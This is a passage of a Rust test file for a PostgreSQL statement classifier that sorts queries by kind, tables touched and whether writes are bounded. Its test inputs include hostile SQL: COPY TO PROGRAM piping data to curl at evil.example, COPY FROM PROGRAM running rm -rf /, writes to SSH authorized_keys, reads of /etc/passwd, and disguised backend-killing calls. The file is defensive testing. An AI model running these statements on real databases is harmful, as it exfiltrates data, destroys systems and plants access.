use std::sync::Arc;

use airlock_core::{Access, SqlKind, SqlOperation};

use super::{Classified, Classifier, MAX_CACHED_LEN};

fn all(sql: &str) -> Arc<[Classified]> {
    Classifier::new(16).classify(sql)
}

fn one(sql: &str) -> Classified {
    let all = all(sql);
    assert_eq!(all.len(), 1, "{sql:?} gave {all:#?}");
    all[0].clone()
}

fn op(sql: &str) -> SqlOperation {
    one(sql).operation
}

fn kind(sql: &str) -> SqlKind {
    op(sql).kind
}

fn kinds(sql: &str) -> Vec<SqlKind> {
    all(sql).iter().map(|c| c.operation.kind).collect()
}

/// The tables as `"r:name"` / `"w:name"`, in the classifier's order.
fn tables(sql: &str) -> Vec<String> {
    tables_of(&op(sql))
}

fn tables_of(op: &SqlOperation) -> Vec<String> {
    op.tables
        .iter()
        .map(|t| {
            let a = match t.access {
                Access::Read => "r",
                Access::Write => "w",
            };
            format!("{a}:{}", t.name)
        })
        .collect()
}

fn ddl(sql: &str) -> (SqlKind, Option<String>) {
    let op = op(sql);
    (op.kind, op.object)
}

// ---- reads and tables ----

#[test]
fn select_reads_tables_in_joins_subqueries_and_ctes() {
    let sql = "WITH recent AS (SELECT * FROM public.orders WHERE ts > now()) \
               SELECT u.name FROM Users u JOIN recent r ON r.uid = u.id \
               LEFT JOIN (SELECT * FROM s.Items) i ON true \
               WHERE u.id IN (SELECT uid FROM banned) AND EXISTS (SELECT 1 FROM \"Audit\")";
    let op = op(sql);
    assert_eq!(op.kind, SqlKind::Select);
    assert_eq!(op.has_where, None);
    assert_eq!(
        tables_of(&op),
        [
            "r:public.orders",
            "r:users",
            "r:s.items",
            "r:banned",
            "r:audit"
        ]
    );
    assert_eq!(op.text, sql);
}

#[test]
fn cte_names_are_not_tables_but_the_same_name_outside_their_scope_is() {
    assert_eq!(
        tables("WITH x AS (SELECT 1) SELECT * FROM x"),
        Vec::<String>::new()
    );
    // A subquery's CTE named like a real table does not hide the outer read of it.
    assert_eq!(
        tables("SELECT * FROM secrets, (WITH secrets AS (SELECT 1) SELECT * FROM secrets) s"),
        ["r:secrets"]
    );
    // A non-recursive CTE cannot see CTEs declared after it: `b` inside `a` is the table.
    assert_eq!(
        tables("WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a, b"),
        ["r:b"]
    );
    assert_eq!(
        tables("WITH RECURSIVE r AS (SELECT 1 UNION ALL SELECT * FROM r) SELECT * FROM r"),
        Vec::<String>::new()
    );
    // A qualified name is never a CTE.
    assert_eq!(tables("WITH t AS (SELECT 1) SELECT * FROM s.t"), ["r:s.t"]);
}

#[test]
fn table_commands_in_set_operations_are_reads() {
    assert_eq!(
        tables("SELECT * FROM a UNION TABLE secrets"),
        ["r:a", "r:secrets"]
    );
    assert_eq!(tables("SELECT * FROM (TABLE s.secrets) q"), ["r:s.secrets"]);
    assert_eq!(
        tables("SELECT * FROM a UNION SELECT * FROM b"),
        ["r:a", "r:b"]
    );
}

#[test]
fn table_functions_are_not_tables() {
    assert_eq!(
        tables("SELECT * FROM generate_series(1, 3) g JOIN t ON true"),
        ["r:t"]
    );
}

#[test]
fn values_and_table_free_selects() {
    assert_eq!(kind("SELECT 1"), SqlKind::Select);
    assert_eq!(kind("VALUES (1), (2)"), SqlKind::Select);
    assert_eq!(tables("SELECT now()"), Vec::<String>::new());
}

// ---- data modification ----

#[test]
fn insert_writes_target_and_reads_select_sources() {
    let op = op("INSERT INTO s.t (a) SELECT a FROM u JOIN v USING (id) RETURNING *");
    assert_eq!(op.kind, SqlKind::Insert);
    assert_eq!(op.has_where, None);
    assert_eq!(tables_of(&op), ["w:s.t", "r:u", "r:v"]);
    assert_eq!(tables("INSERT INTO t VALUES (1)"), ["w:t"]);
    // Reading and writing the same table shows both.
    assert_eq!(tables("INSERT INTO t SELECT * FROM t"), ["w:t", "r:t"]);
}

#[test]
fn update_and_delete_report_whether_they_have_where() {
    let with = op("UPDATE t SET a = 1 WHERE id = 2");
    assert_eq!((with.kind, with.has_where), (SqlKind::Update, Some(true)));
    let without = op("UPDATE t SET a = 1");
    assert_eq!(
        (without.kind, without.has_where),
        (SqlKind::Update, Some(false))
    );
    let with = op("DELETE FROM t WHERE id = 2");
    assert_eq!((with.kind, with.has_where), (SqlKind::Delete, Some(true)));
    let without = op("DELETE FROM t");
    assert_eq!(
        (without.kind, without.has_where),
        (SqlKind::Delete, Some(false))
    );
}

#[test]
fn a_merge_is_bounded_by_its_on_condition() {
    let all_rows = op("MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE");
    assert_eq!(
        (all_rows.kind, all_rows.has_where),
        (SqlKind::Merge, Some(false))
    );
    let matched = op("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE");
    assert_eq!(
        (matched.kind, matched.has_where),
        (SqlKind::Merge, Some(true))
    );
}

#[test]
fn a_where_clause_that_names_no_column_bounds_nothing() {
    for sql in [
        "DELETE FROM t WHERE true",
        "DELETE FROM t WHERE 1 = 1",
        "DELETE FROM t WHERE NOT false AND 'a' = 'a'",
        "DELETE FROM t WHERE $1",
        "UPDATE t SET a = 1 WHERE random() < 2",
        "UPDATE t SET a = 1 WHERE (SELECT true)",
        "DELETE FROM t WHERE current_role IS NOT NULL",
        "DELETE FROM t WHERE CURRENT_SCHEMA = 'public' OR system_user IS NULL",
        "WITH gone AS (DELETE FROM t WHERE 1 = 1 RETURNING *) SELECT * FROM gone",
        // Only other tables' columns: the same value for every target row
        // (the join condition forgotten).
        "UPDATE orders SET status = 'x' FROM customers WHERE customers.email = 'a@b.c'",
        "UPDATE t AS x SET a = 1 FROM u WHERE u.id = 2",
        "DELETE FROM t USING u WHERE u.id = 5",
        "DELETE FROM public.t USING public.u WHERE public.u.id = 5",
        "DELETE FROM t WHERE EXISTS (SELECT 1 FROM u WHERE u.x = 1)",
        "UPDATE ONLY t SET a = 1 FROM u WHERE u.id = 1",
        "MERGE INTO t USING s ON s.id = 1 WHEN MATCHED THEN DELETE",
        "MERGE INTO t USING s ON t.id = s.id WHEN NOT MATCHED BY SOURCE AND s.id = 1 THEN DELETE",
        // A quoted name is exact: "ORDERS" is another table's alias here.
        "DELETE FROM orders USING customers AS \"ORDERS\" WHERE \"ORDERS\".id = 1",
        "DELETE FROM \"Orders\" USING orders WHERE orders.id = 1",
        "UPDATE ONLY \"T\" SET a = 1 FROM u AS t WHERE t.id = 1",
    ] {
        assert_eq!(op(sql).has_where, Some(false), "{sql}");
    }
    // A column anywhere in the condition, also in a correlated subquery,
    // can tell rows apart.
    for sql in [
        "DELETE FROM t WHERE id = 1",
        "DELETE FROM t WHERE t.id = $1",
        "DELETE FROM t WHERE EXISTS (SELECT 1 FROM u WHERE u.id = t.id)",
        "UPDATE t SET a = 1 WHERE 1 = 1 AND id = 2",
        "UPDATE t SET a = 1 WHERE lower(name) = 'x'",
        // A column that happens to be named like one, quoted.
        "DELETE FROM t WHERE \"user\" = 'bob'",
        // The target's column by its name, its alias or its schema, or a
        // column without a table (it may be the target's).
        "UPDATE orders SET status = 'x' FROM customers WHERE orders.customer_id = customers.id",
        "UPDATE t AS x SET a = 1 FROM u WHERE x.id = u.id",
        "DELETE FROM public.t USING u WHERE t.id = u.id",
        "DELETE FROM public.t WHERE public.t.id = 1",
        "DELETE FROM t USING u WHERE u.id = tid",
        "DELETE FROM \"T\" WHERE \"T\".id = 1",
        "UPDATE ONLY t SET a = 1 WHERE t.id = 1",
        "UPDATE ONLY \"T\" SET a = 1 WHERE \"T\".id = 1",
        "DELETE FROM ONLY (s.\"T\") WHERE \"T\".id = 1",
        "DELETE FROM ORDERS WHERE orders.id = 1",
        "DELETE FROM orders WHERE ORDERS.id = 1",
        "MERGE INTO t AS x USING s ON x.id = s.id WHEN MATCHED THEN DELETE",
    ] {
        assert_eq!(op(sql).has_where, Some(true), "{sql}");
    }
}

#[test]
fn only_is_not_taken_for_a_table_name() {
    // sqlparser reads `ONLY t` as table `only` aliased `t`; the table is `t`.
    let op = op("UPDATE ONLY secrets SET a = 1");
    assert_eq!(
        (op.kind, tables_of(&op)),
        (SqlKind::Update, vec!["w:secrets".to_owned()])
    );
    let op = self::op("DELETE FROM ONLY secrets WHERE id = 1");
    assert_eq!(
        (op.kind, tables_of(&op)),
        (SqlKind::Delete, vec!["w:secrets".to_owned()])
    );
    assert_eq!(tables("SELECT * FROM ONLY secrets"), ["r:secrets"]);
    assert_eq!(tables("SELECT * FROM secrets"), ["r:secrets"]);
    // `ONLY (t)`, which sqlparser reads as a call of a function `ONLY`.
    assert_eq!(tables("SELECT * FROM ONLY (secrets)"), ["r:secrets"]);
    assert_eq!(
        tables("SELECT * FROM ONLY (hr.secrets) s"),
        ["r:hr.secrets"]
    );
    assert_eq!(
        tables("SELECT * FROM t WHERE id IN (SELECT id FROM ONLY (secrets))"),
        ["r:t", "r:secrets"]
    );
    let op = self::op("UPDATE ONLY (secrets) SET a = 1 WHERE id = 2");
    assert!(
        op.kind == SqlKind::Opaque || tables_of(&op) == ["w:secrets"],
        "{op:?}"
    );
}

#[test]
fn a_name_qualified_by_the_database_is_the_schema_qualified_table() {
    // PostgreSQL takes `db.schema.table` for the current database only.
    assert_eq!(
        tables("SELECT * FROM app.payroll.wages"),
        ["r:payroll.wages"]
    );
    let op = op("DELETE FROM app.audit.log WHERE id = 1");
    assert_eq!(tables_of(&op), ["w:audit.log"]);
    assert_eq!(tables("SELECT * FROM payroll.wages"), ["r:payroll.wages"]);
}

#[test]
fn a_reserved_word_read_as_a_table_name_makes_the_statement_opaque() {
    // PostgreSQL never accepts these as table names, so sqlparser misread the statement.
    assert_eq!(kind("SELECT * FROM user"), SqlKind::Opaque);
    assert_eq!(kind("SELECT * FROM \"user\""), SqlKind::Select);
    assert_eq!(kind("SELECT * FROM s.user"), SqlKind::Select);
}

#[test]
fn update_from_and_delete_using_read_the_other_tables() {
    assert_eq!(
        tables("UPDATE t SET a = u.a FROM u WHERE t.id = u.id AND u.x IN (SELECT x FROM w)"),
        ["w:t", "r:u", "r:w"]
    );
    assert_eq!(
        tables("DELETE FROM t USING u WHERE t.id = u.id"),
        ["w:t", "r:u"]
    );
}

#[test]
fn merge_writes_target_and_reads_source() {
    let op = op(
        "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE \
         WHEN NOT MATCHED THEN INSERT VALUES (s.id)",
    );
    assert_eq!(op.kind, SqlKind::Merge);
    assert_eq!(tables_of(&op), ["w:t", "r:s"]);
}

#[test]
fn data_modifying_ctes_make_the_statement_a_write() {
    let op = op("WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x");
    assert_eq!(op.kind, SqlKind::Delete);
    assert_eq!(op.has_where, Some(false));
    assert_eq!(tables_of(&op), ["w:t"]);

    let op = self::op("WITH x AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM x");
    assert_eq!((op.kind, op.has_where), (SqlKind::Delete, Some(true)));

    let op = self::op("WITH x AS (UPDATE t SET a = 1 RETURNING *) SELECT * FROM x");
    assert_eq!((op.kind, op.has_where), (SqlKind::Update, Some(false)));

    let op = self::op("WITH x AS (INSERT INTO t VALUES (1) RETURNING *) SELECT * FROM x, u");
    assert_eq!(op.kind, SqlKind::Insert);
    assert_eq!(tables_of(&op), ["w:t", "r:u"]);

    // The strongest write wins: a DELETE feeding an INSERT is a DELETE.
    let op = self::op(
        "WITH gone AS (DELETE FROM a WHERE ts < now() RETURNING *) INSERT INTO archive SELECT * FROM gone",
    );
    assert_eq!((op.kind, op.has_where), (SqlKind::Delete, Some(true)));
    assert_eq!(tables_of(&op), ["w:a", "w:archive"]);

    // A WITH in front of a DELETE.
    let op = self::op("WITH x AS (SELECT id FROM u) DELETE FROM t WHERE id IN (SELECT id FROM x)");
    assert_eq!((op.kind, op.has_where), (SqlKind::Delete, Some(true)));
    assert_eq!(tables_of(&op), ["w:t", "r:u"]);

    // The benign neighbour: a read-only CTE stays a SELECT.
    assert_eq!(
        kind("WITH x AS (SELECT * FROM t) SELECT * FROM x"),
        SqlKind::Select
    );

    // An unbounded write is not hidden behind a bounded one of a stronger
    // kind: PostgreSQL runs every data-modifying CTE to its end.
    for sql in [
        "WITH u AS (UPDATE accounts SET balance = 0 RETURNING 1) DELETE FROM t WHERE id = -1",
        "WITH m AS (MERGE INTO accounts a USING (SELECT 1) s ON true WHEN MATCHED THEN DELETE RETURNING 1) DELETE FROM t WHERE id = -1",
    ] {
        let op = self::op(sql);
        assert_eq!(
            (op.kind, op.has_where),
            (SqlKind::Delete, Some(false)),
            "{sql}"
        );
    }
    let op = self::op(
        "WITH u AS (UPDATE accounts SET balance = 0 WHERE id = 7 RETURNING 1) DELETE FROM t WHERE id = -1",
    );
    assert_eq!((op.kind, op.has_where), (SqlKind::Delete, Some(true)));

    // A table created from a query that deletes is both a create and the
    // delete: opaque, so that neither kind's rules are passed by.
    for sql in [
        "CREATE TEMP TABLE x AS WITH d AS (DELETE FROM payments RETURNING 1) SELECT count(*) FROM d",
        "CREATE TABLE x AS WITH d AS (DELETE FROM payments WHERE id = -1 RETURNING 1) SELECT 1",
        "WITH d AS (DELETE FROM payments WHERE id = -1 RETURNING 1) SELECT * INTO x FROM d",
    ] {
        assert_eq!(kind(sql), SqlKind::Opaque, "{sql}");
    }
    let op = self::op("CREATE TEMP TABLE x AS SELECT count(*) FROM payments");
    assert_eq!(
        (op.kind, op.object),
        (SqlKind::Create, Some("table".into()))
    );
}

#[test]
fn merge_when_not_matched_by_source_is_bounded_only_by_its_own_condition() {
    let unbounded = "MERGE INTO orders o USING (SELECT 0 AS id) s ON o.id = s.id WHEN NOT MATCHED BY SOURCE THEN DELETE";
    assert_eq!(op(unbounded).has_where, Some(false));
    let bounded = "MERGE INTO orders o USING (SELECT 0 AS id) s ON o.id = s.id WHEN NOT MATCHED BY SOURCE AND o.id = 3 THEN DELETE";
    assert_eq!(op(bounded).has_where, Some(true));
    let matched =
        "MERGE INTO orders o USING (SELECT 0 AS id) s ON o.id = s.id WHEN MATCHED THEN DELETE";
    assert_eq!(op(matched).has_where, Some(true));
}

#[test]
fn copy_of_a_data_modifying_query_is_the_write() {
    let op = op("COPY (DELETE FROM t RETURNING *) TO STDOUT");
    assert_eq!((op.kind, op.has_where), (SqlKind::Delete, Some(false)));
}

// ---- things that look like reads ----

#[test]
fn explain_analyze_of_a_write_is_the_write() {
    for sql in [
        "EXPLAIN ANALYZE DELETE FROM t",
        "explain analyze delete from t",
        "EXPLAIN (ANALYZE, BUFFERS) DELETE FROM t",
        "EXPLAIN (ANALYZE true) DELETE FROM t",
        "EXPLAIN (ANALYSE) DELETE FROM t",
        "EXPLAIN (COSTS off, ANALYZE 1) DELETE FROM t",
    ] {
        let op = op(sql);
        assert_eq!(op.kind, SqlKind::Delete, "{sql}");
        assert_eq!(op.has_where, Some(false), "{sql}");
        assert_eq!(tables_of(&op), ["w:t"], "{sql}");
        assert_eq!(op.text, sql);
    }
    // EXPLAIN ANALYZE EXECUTE keeps the name for the connector to substitute.
    let c = one("EXPLAIN ANALYZE EXECUTE p(1)");
    assert_eq!(c.operation.kind, SqlKind::Execute);
    assert_eq!(c.execute.as_deref(), Some("p"));
}

#[test]
fn plain_explain_and_explain_analyze_of_a_read_are_explain() {
    for sql in [
        "EXPLAIN DELETE FROM t",
        "EXPLAIN (ANALYZE false) DELETE FROM t",
        "EXPLAIN (ANALYZE off, COSTS) DELETE FROM t",
        "EXPLAIN ANALYZE SELECT * FROM t",
        "EXPLAIN SELECT * FROM t",
    ] {
        let op = op(sql);
        assert_eq!(op.kind, SqlKind::Explain, "{sql}");
        assert_eq!(tables_of(&op), ["r:t"], "{sql}");
        assert_eq!(op.has_where, None, "{sql}");
    }
}

#[test]
fn select_into_creates_a_table() {
    let op = op("SELECT * INTO TEMP newtable FROM t WHERE a > 1");
    assert_eq!(op.kind, SqlKind::Create);
    assert_eq!(op.object.as_deref(), Some("table"));
    assert_eq!(tables_of(&op), ["w:newtable", "r:t"]);
    assert_eq!(kind("SELECT * FROM t WHERE a > 1"), SqlKind::Select);
}

#[test]
fn side_effecting_functions_turn_a_read_into_call_or_opaque() {
    for sql in [
        "SELECT pg_terminate_backend(123)",
        "select PG_CATALOG.pg_cancel_backend(pid) from pg_stat_activity",
        "SELECT set_config('search_path', 'x', false)",
        "SELECT nextval('s')",
        "SELECT * FROM t WHERE id = (SELECT setval('s', 1))",
        "COPY (SELECT pg_reload_conf()) TO STDOUT",
    ] {
        assert_eq!(kind(sql), SqlKind::Call, "{sql}");
    }
    for sql in [
        "SELECT dblink_exec('dbname=x', 'DROP TABLE t')",
        "SELECT * FROM dblink('dbname=x', 'DELETE FROM t RETURNING 1') AS r(a int)",
        "SELECT lo_export(123, '/tmp/x')",
        "SELECT pg_read_file('/etc/passwd')",
        "SELECT query_to_xml('DELETE FROM t RETURNING 1', true, false, '')",
        "SELECT table_to_xml('secrets', true, false, '')",
        "SELECT * FROM ts_stat('SELECT body FROM secrets')",
        "SELECT ts_rewrite(to_tsquery('a'), 'SELECT q, s FROM secret_rules')",
        "INSERT INTO log SELECT dblink_exec('dbname=x', 'DROP TABLE t')",
    ] {
        assert_eq!(kind(sql), SqlKind::Opaque, "{sql}");
    }
    // A known function in a write does not weaken it.
    assert_eq!(kind("INSERT INTO t VALUES (nextval('s'))"), SqlKind::Insert);
    // Ordinary functions leave a read a read.
    assert_eq!(
        kind("SELECT lower(name), count(*) FROM t GROUP BY 1"),
        SqlKind::Select
    );
    assert_eq!(kind("SELECT currval('s')"), SqlKind::Select);
}

/// PostgreSQL calls `f(x)` for `(x).f` when `x` has no field `f`, whatever
/// the type of `x` (attribute notation), so a side effect can hide behind
/// a field access.
#[test]
fn a_function_called_in_attribute_notation_is_a_call() {
    for sql in [
        "SELECT (pid).pg_terminate_backend FROM pg_stat_activity",
        "SELECT (1234).PG_CANCEL_BACKEND",
        "SELECT ((1234)).pg_terminate_backend",
        "SELECT (s).pid.pg_terminate_backend FROM (SELECT 1234 AS pid) s",
        "SELECT (array[1234])[1].pg_terminate_backend",
        "SELECT (oid).lo_unlink FROM pg_largeobject_metadata",
        "SELECT id FROM t WHERE (id).pg_terminate_backend",
    ] {
        assert_eq!(kind(sql), SqlKind::Call, "{sql}");
    }
    for sql in [
        "SELECT ('/etc/passwd'::text).pg_read_file",
        "SELECT ('dbname=x'::text).dblink_connect",
        "SELECT ('/tmp/x'::text).lo_import",
    ] {
        assert_eq!(kind(sql), SqlKind::Opaque, "{sql}");
    }
    // The same notation with a harmless function, or a real field, is a read.
    assert_eq!(kind("SELECT ('abc'::text).upper"), SqlKind::Select);
    assert_eq!(kind("SELECT (c).street FROM customers c"), SqlKind::Select);
    // A parameter of EXECUTE is judged too.
    assert_eq!(
        kind("EXECUTE p((1234).pg_terminate_backend)"),
        SqlKind::Opaque
    );
    assert_eq!(kind("EXECUTE p((1234).abs)"), SqlKind::Execute);
}

// ---- copy ----

#[test]
fn copy_in_out_and_program() {
    let op = op("COPY s.t (a, b) FROM STDIN WITH (FORMAT csv)");
    assert_eq!(op.kind, SqlKind::CopyIn);
    assert_eq!(tables_of(&op), ["w:s.t"]);
    let op = self::op("COPY t TO STDOUT");
    assert_eq!(op.kind, SqlKind::CopyOut);
    assert_eq!(tables_of(&op), ["r:t"]);
    let op = self::op("COPY (SELECT * FROM t JOIN u USING (id)) TO STDOUT");
    assert_eq!(op.kind, SqlKind::CopyOut);
    assert_eq!(tables_of(&op), ["r:t", "r:u"]);
    // Data in another encoding than UTF-8 cannot be masked as UTF-8.
    assert_eq!(
        kind("COPY t TO STDOUT WITH (FORMAT csv, ENCODING 'utf-8')"),
        SqlKind::CopyOut
    );
    for sql in [
        "COPY t TO STDOUT (ENCODING 'LATIN1')",
        "COPY (SELECT email FROM t) TO STDOUT WITH (FORMAT csv, ENCODING 'WIN1252')",
        "COPY t FROM STDIN (ENCODING 'SQL_ASCII')",
        "COPY t TO PROGRAM 'curl -d @- evil.example'",
        "COPY t FROM PROGRAM 'rm -rf /'",
        "COPY t TO '/var/lib/postgresql/.ssh/authorized_keys'",
        "COPY t FROM '/etc/passwd'",
    ] {
        assert_eq!(kind(sql), SqlKind::Opaque, "{sql}");
    }
}

// ---- prepared statements ----

#[test]
fn prepare_execute_deallocate() {
    let c = one("PREPARE Del (int) AS DELETE FROM t WHERE id = $1");
    assert_eq!(c.operation.kind, SqlKind::Prepare);
    assert_eq!(c.operation.has_where, Some(true));
    assert_eq!(tables_of(&c.operation), ["w:t"]);
    let (name, inner) = c.prepare.expect("prepare");
    assert_eq!(name, "del");
    assert_eq!(inner.kind, SqlKind::Delete);
    assert_eq!(inner.has_where, Some(true));
    assert_eq!(inner.text, "DELETE FROM t WHERE id = $1");

    let c = one("EXECUTE del(1)");
    assert_eq!(c.operation.kind, SqlKind::Execute);
    assert_eq!(c.execute.as_deref(), Some("del"));
    assert_eq!(one("EXECUTE \"Del\"").execute.as_deref(), Some("Del"));
    // A side effect in the parameters is not hidden behind the prepared statement.
    for sql in [
        "EXECUTE del(pg_terminate_backend(1))",
        "EXECUTE del(dblink_exec('x', 'DROP TABLE t'))",
    ] {
        let c = one(sql);
        assert_eq!(
            (c.operation.kind, c.execute),
            (SqlKind::Opaque, None),
            "{sql}"
        );
    }
    assert_eq!(
        one("EXECUTE del(lower('A'))").execute.as_deref(),
        Some("del")
    );

    let c = one("DEALLOCATE del");
    assert_eq!(c.operation.kind, SqlKind::Deallocate);
    assert_eq!(c.deallocate, Some(Some("del".to_owned())));
    assert_eq!(
        one("DEALLOCATE PREPARE del").deallocate,
        Some(Some("del".to_owned()))
    );
    assert_eq!(one("DEALLOCATE ALL").deallocate, Some(None));
    assert_eq!(
        one("DEALLOCATE \"ALL\"").deallocate,
        Some(Some("ALL".to_owned()))
    );
    assert_eq!(one("DISCARD ALL").deallocate, Some(None));
    assert_eq!(one("SELECT 1").deallocate, None);
}

#[test]
fn prepare_of_a_read_keeps_the_inner_read() {
    let c = one("PREPARE q AS SELECT * FROM t");
    assert_eq!(c.operation.kind, SqlKind::Prepare);
    let (_, inner) = c.prepare.expect("prepare");
    assert_eq!(inner.kind, SqlKind::Select);
    assert_eq!(tables_of(&inner), ["r:t"]);
}

// ---- every other kind ----

#[test]
fn ddl_kinds_and_objects() {
    use SqlKind::{Alter, Create, Drop};
    let cases = [
        ("CREATE TABLE s.t (a int)", Create, "table"),
        ("CREATE TABLE t2 AS SELECT * FROM t", Create, "table"),
        ("CREATE INDEX i ON t (a)", Create, "index"),
        ("CREATE SCHEMA s", Create, "schema"),
        ("CREATE DATABASE d", Create, "database"),
        ("CREATE VIEW v AS SELECT * FROM t", Create, "view"),
        (
            "CREATE MATERIALIZED VIEW mv AS SELECT 1",
            Create,
            "materialized view",
        ),
        (
            "CREATE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql",
            Create,
            "function",
        ),
        ("CREATE ROLE bob LOGIN", Create, "role"),
        ("CREATE USER bob", Create, "role"),
        ("CREATE SEQUENCE seq", Create, "sequence"),
        ("CREATE EXTENSION dblink", Create, "extension"),
        ("CREATE TYPE mood AS ENUM ('sad', 'ok')", Create, "type"),
        (
            "CREATE TRIGGER tr BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()",
            Create,
            "trigger",
        ),
        (
            "CREATE RULE r AS ON INSERT TO t DO INSTEAD NOTHING",
            Create,
            "rule",
        ),
        (
            "CREATE OR REPLACE RULE r AS ON DELETE TO s.t DO ALSO NOTIFY c",
            Create,
            "rule",
        ),
        ("ALTER TABLE t ADD COLUMN c int", Alter, "table"),
        ("ALTER INDEX i RENAME TO j", Alter, "index"),
        ("ALTER ROLE bob SUPERUSER", Alter, "role"),
        ("ALTER SCHEMA s RENAME TO s2", Alter, "schema"),
        ("COMMENT ON TABLE t IS 'x'", Alter, "table"),
        ("DROP TABLE a, s.b", Drop, "table"),
        ("DROP INDEX i", Drop, "index"),
        ("DROP SCHEMA s CASCADE", Drop, "schema"),
        ("DROP DATABASE d", Drop, "database"),
        ("DROP VIEW v", Drop, "view"),
        ("DROP FUNCTION f()", Drop, "function"),
        ("DROP ROLE bob", Drop, "role"),
    ];
    for (sql, kind, object) in cases {
        assert_eq!(ddl(sql), (kind, Some(object.to_owned())), "{sql}");
    }
    assert_eq!(tables("DROP TABLE a, s.b"), ["w:a", "w:s.b"]);
    assert_eq!(
        tables("CREATE TABLE t2 AS SELECT * FROM t"),
        ["w:t2", "r:t"]
    );
    assert_eq!(tables("CREATE INDEX i ON s.t (a)"), ["w:s.t"]);
    assert_eq!(tables("ALTER TABLE T ADD COLUMN c int"), ["w:t"]);
    assert_eq!(
        tables("CREATE RULE r AS ON INSERT TO s.t DO INSTEAD NOTHING"),
        ["w:s.t"]
    );
    assert_eq!(
        tables("CREATE TRIGGER tr BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()"),
        ["w:t"]
    );
}

#[test]
fn utility_kinds() {
    use SqlKind::*;
    let cases = [
        ("TRUNCATE t1, s.t2", Truncate),
        ("GRANT SELECT ON TABLE t TO bob", Grant),
        ("GRANT admin TO bob", Grant),
        ("REVOKE ALL ON SCHEMA s FROM bob", Revoke),
        ("REVOKE admin FROM bob", Revoke),
        ("CALL p(1)", Call),
        ("SET search_path = a, b", Set),
        ("SET LOCAL statement_timeout TO 0", Set),
        ("SET ROLE admin", Set),
        ("RESET ALL", Set),
        ("DISCARD ALL", Set),
        ("SHOW search_path", Show),
        ("BEGIN", Transaction),
        (
            "START TRANSACTION ISOLATION LEVEL SERIALIZABLE",
            Transaction,
        ),
        (
            "SET TRANSACTION ISOLATION LEVEL READ COMMITTED",
            Transaction,
        ),
        ("COMMIT", Transaction),
        ("END", Transaction),
        ("ROLLBACK", Transaction),
        ("ABORT", Transaction),
        ("SAVEPOINT a", Transaction),
        ("RELEASE SAVEPOINT a", Transaction),
        ("ROLLBACK TO SAVEPOINT a", Transaction),
        ("LISTEN chan", Listen),
        ("UNLISTEN *", Listen),
        ("NOTIFY chan, 'payload'", Notify),
        ("VACUUM t", Vacuum),
        ("VACUUM FULL t", Vacuum),
        ("VACUUM (VERBOSE, ANALYZE) t1, s.t2 (a, b)", Vacuum),
        ("VACUUM ANALYZE", Vacuum),
        ("VACUUM FULL VERBOSE ANALYZE t", Vacuum),
        ("ANALYZE VERBOSE t", Vacuum),
        ("TABLE t", Select),
        ("ANALYZE t", Vacuum),
        ("ANALYZE (VERBOSE) t", Vacuum),
        ("LOCK TABLE t IN ACCESS EXCLUSIVE MODE", Lock),
        ("LOCK t", Lock),
        ("DECLARE c CURSOR FOR SELECT * FROM t", Select),
        ("FETCH 10 FROM c", Select),
        ("CLOSE c", Other),
    ];
    for (sql, kind) in cases {
        assert_eq!(self::kind(sql), kind, "{sql}");
    }
    assert_eq!(tables("TRUNCATE t1, s.t2"), ["w:t1", "w:s.t2"]);
    assert_eq!(tables("GRANT SELECT ON TABLE t TO bob"), ["w:t"]);
    assert_eq!(tables("LOCK TABLE t IN ACCESS EXCLUSIVE MODE"), ["w:t"]);
    assert_eq!(
        tables("VACUUM (VERBOSE, ANALYZE) t1, s.t2 (a, b)"),
        ["w:t1", "w:s.t2"]
    );
    assert_eq!(tables("VACUUM t"), ["w:t"]);
    assert_eq!(tables("VACUUM ANALYZE"), Vec::<String>::new());
    assert_eq!(tables("VACUUM FULL VERBOSE ANALYZE t"), ["w:t"]);
    assert_eq!(tables("ANALYZE VERBOSE s.t"), ["r:s.t"]);
    assert_eq!(tables("TABLE ONLY s.t"), ["r:s.t"]);
    // Anything past the names is not VACUUM grammar: opaque.
    assert_eq!(kind("VACUUM t WHERE 1 = 1"), SqlKind::Opaque);
    assert_eq!(
        kinds("TABLE t; SELECT 1"),
        [SqlKind::Select, SqlKind::Select]
    );
    assert_eq!(tables("ANALYZE t"), ["r:t"]);
    assert_eq!(tables("DECLARE c CURSOR FOR SELECT * FROM t"), ["r:t"]);
}

// ---- multi-statement strings ----

#[test]
fn multi_statement_strings_are_judged_per_statement() {
    let ops = all("SELECT 1; DROP TABLE t;\n  UPDATE u SET a = 1 ;");
    let kinds: Vec<_> = ops.iter().map(|c| c.operation.kind).collect();
    assert_eq!(kinds, [SqlKind::Select, SqlKind::Drop, SqlKind::Update]);
    let texts: Vec<_> = ops.iter().map(|c| c.operation.text.as_str()).collect();
    assert_eq!(texts, ["SELECT 1", "DROP TABLE t", "UPDATE u SET a = 1"]);
    assert_eq!(kinds_of_single("SELECT 1"), [SqlKind::Select]);
}

fn kinds_of_single(sql: &str) -> Vec<SqlKind> {
    kinds(sql)
}

#[test]
fn semicolons_in_literals_comments_and_dollar_quotes_do_not_split() {
    for sql in [
        "SELECT 'a; DROP TABLE t'",
        "SELECT E'a\\'; DROP TABLE t; --'",
        "SELECT $$; DROP TABLE t;$$",
        "SELECT $tag$ $$; DROP TABLE t; $$ $tag$",
        "SELECT \"; DROP TABLE t\" FROM x",
        "SELECT 1 /* ; DROP TABLE t; */",
        "SELECT 1 -- ; DROP TABLE t;",
        "SELECT 'it''s; fine'",
    ] {
        assert_eq!(kinds(sql), [SqlKind::Select], "{sql}");
    }
}

#[test]
fn an_unparseable_statement_does_not_make_its_neighbours_opaque() {
    assert_eq!(
        kinds("SELECT 1; DO $$ BEGIN DELETE FROM t; END $$; DELETE FROM u WHERE id = 1"),
        [SqlKind::Select, SqlKind::Opaque, SqlKind::Delete]
    );
    let ops = all("SELECT 1; DO $$ BEGIN DELETE FROM t; END $$");
    assert_eq!(ops[1].operation.text, "DO $$ BEGIN DELETE FROM t; END $$");
}

#[test]
fn strings_that_cannot_be_split_reliably_are_one_opaque_entry() {
    for sql in [
        "SELECT 1; SELECT 'unterminated",
        "SELECT 1; /* unterminated",
